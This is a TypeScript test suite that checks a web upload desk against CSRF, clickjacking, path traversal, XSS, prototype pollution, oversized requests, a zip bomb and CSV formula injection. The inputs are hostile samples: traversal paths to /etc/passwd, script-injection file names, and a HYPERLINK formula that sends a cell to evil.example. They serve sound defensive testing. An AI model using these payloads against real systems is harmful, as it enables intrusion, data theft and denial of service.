import { readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test, vi } from 'vitest';
import { makeZip, SHEET_PART, textRow, workbookParts } from '../../intake/xlsx/workbook-maker.ts';
import { NamedBrowser, PROXY_SECRET } from './named-browser.ts';
import { createSignedInWorld, ORIGIN, type SignedInWorld } from './signed-in-world.ts';

/** Each test starts the real program, on a machine that may have other work. */
vi.setConfig({ testTimeout: 600_000 });

const LIST = 'user_id,par\n1234567890123456789,ABCDEFGHIJKLMNOPQRSTUVWXYZ1\n';

async function startDesk(): Promise<SignedInWorld> {
  return await createSignedInWorld({ env: { KONA_DESK_PROXY_SECRET: PROXY_SECRET } });
}

/** Returns every file below a folder. */
function filesBelow(folder: string): string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name));
}

test('CSRF: nothing is done without the token of the browser’s own page', async () => {
  await using desk = await startDesk();
  const kim = new NamedBrowser(desk.place, 'kim@corp.example');
  const other = new NamedBrowser(desk.place, 'kim@corp.example');
  const own = await kim.token();
  const others = await other.token();
  for (const token of ['', 'guess', others, own.slice(0, -1)])
    expect([token, (await kim.sendRaw('list.csv', { content: LIST, token })).status]).toEqual([token, 403]);
  // A foreign page sends the right token.
  const elsewhere = await kim.ask(`${ORIGIN}/language`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', origin: 'https://evil.example' },
    body: new URLSearchParams({ token: own, language: 'ko', back: '/' }).toString(),
  });
  expect(elsewhere.status).toBe(403);
  // Two tokens count as none.
  const twice = await kim.ask(`${ORIGIN}/language`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', 'sec-fetch-site': 'same-origin' },
    body: `token=${own}&token=${own}&language=ko&back=/`,
  });
  expect(twice.status).toBe(403);
  expect((await kim.sendRaw('list.csv', { content: LIST, token: own })).status).toBe(303);
});

test('clickjacking, sniffing, caching: what every answer says, also where it is a refusal', async () => {
  await using desk = await startDesk();
  const kim = new NamedBrowser(desk.place, 'kim@corp.example');
  const answers = [
    await kim.ask(`${ORIGIN}/`),
    await kim.ask(`${ORIGIN}/uploads/new`),
    await kim.ask(`${ORIGIN}/none`),
    await kim.ask(`${ORIGIN}/`, { headers: { 'x-kona-desk-secret': 'guess' } }),
    await kim.ask(`${ORIGIN}/`, { headers: { host: 'evil.example' } }),
  ];
  expect(answers.map(({ status }) => status)).toEqual([200, 200, 404, 401, 421]);
  for (const { headers } of answers) {
    const policy = String(headers['content-security-policy']);
    expect(policy).toContain(`default-src 'none'`);
    expect(policy).toContain(`frame-ancestors 'none'`);
    expect(policy).not.toMatch(/unsafe|\*|https?:|data:/);
    expect(headers).toMatchObject({
      'x-frame-options': 'DENY',
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cache-control': 'no-store',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
    });
    expect(headers['x-powered-by'] ?? headers['server']).toBeUndefined();
  }
});

test('a file’s name leads nowhere else and is no part of a page', async () => {
  await using desk = await startDesk();
  const kim = new NamedBrowser(desk.place, 'kim@corp.example');
  const before = new Set(filesBelow(desk.world.cwd));
  const names = [
    '../../../../evil.csv',
    '..%2f..%2fevil.csv',
    '/etc/cron.d/evil.csv',
    'C:\\Windows\\evil.csv',
    '..\\..\\evil.csv',
    '.htaccess',
    `${'x'.repeat(400)}.csv`,
    'a\u0000b.csv',
    '<img src=x onerror=alert(1)>.csv',
    "x' onmouseover='alert(1).csv",
    '\u202Evsc.exe',
  ];
  const pages: string[] = [];
  for (const name of names) {
    const answer = await kim.sendRaw(name, { content: LIST, token: await kim.token() });
    const to = answer.headers.location ?? '';
    expect([name, answer.status, /^\/uploads\/[0-9a-f-]{36}$/.test(to)]).toEqual([name, 303, true]);
    pages.push((await kim.ask(`${ORIGIN}${to}`)).text);
  }
  const uploads = join(desk.world.cwd, 'runs', 'uploads');
  // A name that consists of dots counts as none.
  expect((await kim.sendRaw('..', { content: LIST, token: await kim.token() })).status).toBe(400);
  const lists = filesBelow(uploads);
  expect(lists).toHaveLength(names.length);
  for (const file of lists) expect((statSync(file).mode & 0o777).toString(8)).toBe('600');
  const strays = filesBelow(desk.world.cwd).filter(
    (file) => !before.has(file) && !file.startsWith(uploads) && /evil|htaccess|cron/.test(file),
  );
  expect(strays).toEqual([]);
  for (const page of [...pages, (await kim.ask(`${ORIGIN}/`)).text]) {
    expect(page).not.toMatch(/<img|\sonmouseover='|\u202E/u);
    expect(page.match(/<script/g)).toHaveLength(1);
  }
});

test('a content type tricks nobody: no file is ever given back, and a form of another kind is none', async () => {
  await using desk = await startDesk();
  const kim = new NamedBrowser(desk.place, 'kim@corp.example');
  const content = '<!doctype html><script>alert(1)</script>';
  const sent = await kim.sendRaw('list.html', { type: 'text/html', content, token: await kim.token() });
  expect(sent.status).toBe(303);
  const address = `${ORIGIN}${sent.headers.location ?? ''}`;
  const page = await kim.ask(address);
  expect(page.text).not.toContain('alert(1)');
  for (const path of ['/list.html', '/file', '/..%2flist.html', '/%2e%2e/list.html'])
    expect([path, (await kim.ask(`${address}${path}`)).status]).toEqual([path, 404]);
  const token = await kim.token();
  for (const type of ['application/json', 'text/plain', 'multipart/mixed; boundary=x', 'text/xml']) {
    const answer = await kim.ask(`${ORIGIN}/uploads`, {
      method: 'POST',
      headers: { 'content-type': type, 'sec-fetch-site': 'same-origin' },
      body: JSON.stringify({ token, kind: 'proof', file: LIST, ['__proto__']: { role: 'approver' } }),
    });
    expect([type, answer.status]).toEqual([type, 400]);
  }
  expect((await kim.ask(`${ORIGIN}/uploads`, { method: 'PUT' })).status).toBe(403);
  expect((await kim.ask(`${ORIGIN}/${'a'.repeat(20_000)}`)).status).toBe(431);
});

test('a path of somebody’s making finds nothing', async () => {
  await using desk = await startDesk();
  const ann = new NamedBrowser(desk.place, 'ann@corp.example');
  for (const path of [
    '/uploads/..%2f..%2f..%2fetc%2fpasswd',
    '/assets/../../package.json',
    '/assets/..%2f..%2fpackage.json',
    '/uploads/%00',
    `/uploads/1%27%20or%20%271%27=%271`,
    '/uploads/00000000-0000-0000-0000-000000000000',
    '/constructor',
    '/uploads/__proto__',
  ])
    expect([path, (await ann.ask(`${ORIGIN}${path}`)).status]).toEqual([path, 404]);
  // A viewer is refused whatever the method is.
  for (const method of ['POST', 'PUT', 'PATCH', 'DELETE'])
    expect((await ann.ask(`${ORIGIN}/uploads`, { method })).status).toBe(403);
});

const MIB = 1024 * 1024;

/** Makes this many bytes, a piece at a time. */
async function* bytes(count: number): AsyncGenerator<Uint8Array> {
  const piece = Buffer.alloc(MIB, 'a');
  for (let left = count; left > 0; left -= MIB) yield await Promise.resolve(piece.subarray(0, left));
}

test('what is too large is refused as it comes, and nothing of it is kept', async () => {
  await using desk = await startDesk();
  const kim = new NamedBrowser(desk.place, 'kim@corp.example');
  const content = bytes(200 * MIB + 1);
  const answer = await kim.sendRaw('list.csv', { content, token: await kim.token() });
  expect(answer.status).toBe(413);
  expect(answer.text).toContain('larger than 200 MiB');
  expect(filesBelow(join(desk.world.cwd, 'runs', 'uploads'))).toEqual([]);
  const form = new URLSearchParams({ language: 'en', back: '/', token: 'x'.repeat(20_000) }).toString();
  const large = await kim.ask(`${ORIGIN}/language`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', 'sec-fetch-site': 'same-origin' },
    body: form,
  });
  expect(large.status).toBe(413);
  // The desk accepts a file that is exactly as large as allowed.
  const whole = await kim.sendRaw('whole.csv', { content: bytes(200 * MIB), token: await kim.token() });
  expect(whole.status).toBe(303);
  expect(filesBelow(join(desk.world.cwd, 'runs', 'uploads')).map((file) => statSync(file).size)).toEqual([
    200 * MIB,
  ]);
});

test('a workbook that unpacks to 300 MiB is refused in the words of intake, and the desk goes on', async () => {
  await using desk = await startDesk();
  const kim = new NamedBrowser(desk.place, 'kim@corp.example');
  const parts = workbookParts({ rows: textRow(1, 'a'), strings: '' });
  const bomb = makeZip(
    parts.map((part) =>
      part.name === SHEET_PART ? { name: SHEET_PART, content: Buffer.alloc(300 * MIB, ' ') } : part,
    ),
  );
  const path = await kim.upload('list.xlsx', bomb);
  const page = await kim.page(path);
  expect(page.text).toContain('over 200 times its packed size');
  expect((await kim.page('/')).status).toBe(200);
});

test('formulas stay text: on the page, and in the list that is given out', async () => {
  await using desk = await startDesk();
  const kim = new NamedBrowser(desk.place, 'kim@corp.example');
  const lee = new NamedBrowser(desk.place, 'lee@corp.example');
  const formula = `=HYPERLINK("https://evil.example/"&A1)`;
  const quoted = `"${formula.replaceAll('"', '""')}"`;
  const path = await kim.upload('list.csv', `user_id,par,${quoted}\n1001,short,${quoted}\n`);
  expect((await kim.page(path)).text).not.toContain('HYPERLINK("');
  await lee.press(path, 'approve');
  await kim.until(path, 'ended');
  const given = await kim.press(path, 'files', { name: 'rejected.csv', reason: 'to correct it' });
  expect(given.status).toBe(200);
  expect(given.headers['content-disposition']).toMatch(/^attachment; filename="list\.rejected\.csv"/);
  expect(given.text).not.toMatch(/(?:^|[",\n])=HYPERLINK/);
  expect(given.text).toContain(`'=HYPERLINK`);
});
